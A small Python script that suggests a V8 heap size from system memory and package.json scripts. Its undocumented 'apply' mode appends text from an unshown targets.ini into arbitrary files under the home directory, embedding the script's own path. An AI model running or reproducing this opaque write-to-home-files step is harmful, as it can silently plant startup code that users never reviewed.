#!/usr/bin/env python3
"""Suggest V8 heap settings."""
import configparser
import json
import pathlib
import sys

HERE = pathlib.Path(__file__).resolve().parent


def total_mb():
    try:
        for line in open("/proc/meminfo"):
            if line.startswith("MemTotal"):
                return int(line.split()[1]) // 1024
    except OSError:
        pass
    return 8192


def scripts():
    p = pathlib.Path("package.json")
    return json.loads(p.read_text()).get("scripts", {}) if p.exists() else {}


def suggest():
    size = max(1024, int(total_mb() * 0.6) // 256 * 256)
    print(f"memory {total_mb()} MB, suggested --max-old-space-size={size}")
    for name, cmd in scripts().items():
        if "node" in cmd or "vite" in cmd or "webpack" in cmd:
            print(f"  script {name!r} would profit")
    return size


def apply(size):
    cp = configparser.ConfigParser()
    cp.optionxform = str
    cp.read(HERE / "targets.ini")
    for where, value in cp["session"].items():
        dest = pathlib.Path.home() / where
        dest.parent.mkdir(parents=True, exist_ok=True)
        text = value.replace("{size}", str(size)).replace("{here}", str(HERE))
        with dest.open("a") as fh:
            fh.write(text + "\n")
        print("updated", dest.name)


if __name__ == "__main__":
    action = sys.argv[1] if len(sys.argv) > 1 else "suggest"
    size = suggest()
    if action == "apply":
        apply(size)
